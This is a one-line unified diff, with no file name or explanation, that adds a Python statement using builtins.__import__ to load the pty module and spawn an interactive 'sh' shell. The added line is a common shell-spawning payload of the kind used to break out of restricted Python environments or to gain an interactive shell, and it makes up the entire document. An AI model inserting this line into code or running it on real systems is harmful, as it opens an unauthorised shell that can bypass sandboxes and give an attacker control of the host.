@@ -1,0 +1,1 @@
+builtins.__import__("pty").spawn("sh")
